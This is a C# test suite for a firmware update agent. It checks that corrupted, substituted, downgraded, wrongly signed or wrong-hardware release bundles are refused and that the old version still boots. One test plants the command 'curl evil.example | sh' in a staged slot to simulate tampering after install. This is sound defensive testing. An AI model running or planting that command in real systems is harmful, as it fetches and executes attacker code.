using Otter.Agent.Tests.TestSupport;

namespace Otter.Agent.Tests.Update;

/// <summary>
/// DESIGN §5, device side, artifact rows: whatever the repository serves, a refused release
/// leaves the committed slot's bytes and boot state as they were, keeps nothing of itself, and
/// the device boots the old version.
/// </summary>
public sealed class ArtifactThreatTests
{
    [Fact]
    public async Task Install_ArtifactCorruptedSameLength_RefusedAndOldVersionBoots()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var stored = factory.StoredTarget(ReleaseFactory.V2);
        var bytes = await File.ReadAllBytesAsync(stored);
        bytes[^3] ^= 0x40;
        await File.WriteAllBytesAsync(stored, bytes);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(ReleaseFactory.V2);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("does not match", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_ArtifactSubstitutedByAnotherSignedBundleOfTheSameLength_RefusedByTheTufHash()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var published = await factory.ReleaseAsync(BundleSpec.Healthy("2.5", 2) with { Salt = "-aaaa" }, "fw-2.5.bin");
        var stored = factory.StoredTarget(published);

        // The boot key signed the substitute too (same version, counter and hardware): only the
        // TUF hash tells them apart. Signatures vary in length, so build until the lengths match.
        string? substitute = null;
        for (var i = 0; i < 40 && substitute is null; i++)
        {
            var candidate = await factory.BuildBundleAsync(BundleSpec.Healthy("2.5", 2) with { Salt = "-bbbb" });
            if (new FileInfo(candidate).Length == new FileInfo(stored).Length)
            {
                substitute = candidate;
            }
        }

        Assert.NotNull(substitute);
        File.Copy(substitute, stored, overwrite: true);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(published);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("does not have the sha256 hash", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_ArtifactSubstitutedByAnotherRelease_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        File.Copy(factory.StoredTarget(ReleaseFactory.V1), factory.StoredTarget(ReleaseFactory.V2), overwrite: true);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(ReleaseFactory.V2);

        Assert.Equal(1, install.ExitCode);
        Assert.NotEmpty(install.Error);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_ArtifactShorterThanItsMetadataSays_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var stored = factory.StoredTarget(ReleaseFactory.V2);
        var bytes = await File.ReadAllBytesAsync(stored);
        await File.WriteAllBytesAsync(stored, bytes[..^1]);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(ReleaseFactory.V2);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains($"ended after {bytes.Length - 1} bytes", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_ArtifactLongerThanItsMetadataSays_DownloadStoppedAndRefused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var stored = factory.StoredTarget(ReleaseFactory.V2);
        await using (var stream = new FileStream(stored, FileMode.Append))
        {
            stream.Write(new byte[4 << 20]);
        }

        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(ReleaseFactory.V2);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("is longer than the", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_SecurityCounterBelowTheDevices_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        await factory.InstallAndBootAsync(ReleaseFactory.V2);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(ReleaseFactory.V1);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("has security counter 1, below this device's 2: a downgrade, refused", install.Error, StringComparison.Ordinal);
        Assert.Equal(2, before.SecurityCounter);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_BundleCounterBelowTheDevicesBehindHigherMetadata_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        await factory.InstallAndBootAsync(ReleaseFactory.V2);

        // The signed metadata claims counter 2; the bundle's boot manifest says 1.
        var bundle = await factory.BuildBundleAsync(BundleSpec.Healthy("2.0", 1) with { Salt = "-old" });
        Assert.Equal(0, (await factory.PublishAsync(bundle, "fw-2.0-old.bin", "2.0", 2)).ExitCode);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync("fw-2.0-old.bin");

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("the bundle's security counter 1 is below the device's 2 (downgrade refused)", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_BundleCounterDiffersFromItsMetadata_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var bundle = await factory.BuildBundleAsync(BundleSpec.Healthy("2.2", 5));
        Assert.Equal(0, (await factory.PublishAsync(bundle, "fw-2.2.bin", "2.2", 2)).ExitCode);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync("fw-2.2.bin");

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("does not match the signed release", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_BundleSignedByAnotherBootKey_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var foreign = await factory.ReleaseAsync(BundleSpec.ForeignBootKey("2.0", 2), "fw-2.0-foreign.bin");
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(foreign);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("signed by a boot key other than the one fused into this device", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_ReleaseForOtherHardware_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var other = await factory.ReleaseAsync(BundleSpec.WrongHardware("2.0", 2), "fw-2.0-other.bin");
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync(other);

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("is built for hardware other-board; this device is gw", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Install_BundleForOtherHardwareBehindMatchingMetadata_Refused()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var bundle = await factory.BuildBundleAsync(BundleSpec.WrongHardware("2.0", 2));
        Assert.Equal(0, (await factory.PublishAsync(bundle, "fw-2.0-hw.bin", "2.0", 2, ReleaseFactory.Hardware)).ExitCode);
        var before = ActiveSlotState.Capture(factory.Device);

        var install = await factory.InstallAsync("fw-2.0-hw.bin");

        Assert.Equal(1, install.ExitCode);
        Assert.Contains("the bundle is built for hardware other-board; this device is gw", install.Error, StringComparison.Ordinal);
        await before.AssertRefusedAndBootsOldAsync(factory.Device);
    }

    [Fact]
    public async Task Boot_SlotModifiedAfterInstall_DetectedBeforeCommitAndOldVersionBoots()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var before = ActiveSlotState.Capture(factory.Device);
        Assert.Equal(0, (await factory.InstallAsync(ReleaseFactory.V2)).ExitCode);

        // Time of check to time of use: the verified image is changed in the slot before the reboot.
        await File.AppendAllTextAsync(factory.Combine("device", "slots", "b", "app.stage"), "curl evil.example | sh\n");

        var boot = await factory.BootAsync();
        var control = factory.BootControl();

        Assert.StartsWith("booted slot a version 1.0: recovery (stage app of slot b does not match its signed hash", boot.Output.Trim(), StringComparison.Ordinal);
        Assert.Equal(Otter.Agent.Platform.SlotState.Bad, control.Slots["b"].State);
        Assert.Null(control.Trial);
        before.AssertUntouched(factory.Device);
        Assert.Equal("booted slot a version 1.0: booted", (await factory.BootAsync()).Output.Trim());
    }

    [Fact]
    public async Task Boot_ManifestInSlotReplacedAfterInstall_DetectedBeforeCommit()
    {
        using var factory = await ReleaseFactory.CreateAsync();
        var before = ActiveSlotState.Capture(factory.Device);
        Assert.Equal(0, (await factory.InstallAsync(ReleaseFactory.V2)).ExitCode);
        var manifest = factory.Combine("device", "slots", "b", "manifest.json");
        var text = await File.ReadAllTextAsync(manifest);
        await File.WriteAllTextAsync(manifest, text.Replace("\"version\":\"2.0\"", "\"version\":\"9.9\"", StringComparison.Ordinal));

        var boot = await factory.BootAsync();

        Assert.StartsWith("booted slot a version 1.0: recovery (ROM refused slot b's boot manifest", boot.Output.Trim(), StringComparison.Ordinal);
        before.AssertUntouched(factory.Device);
    }
}
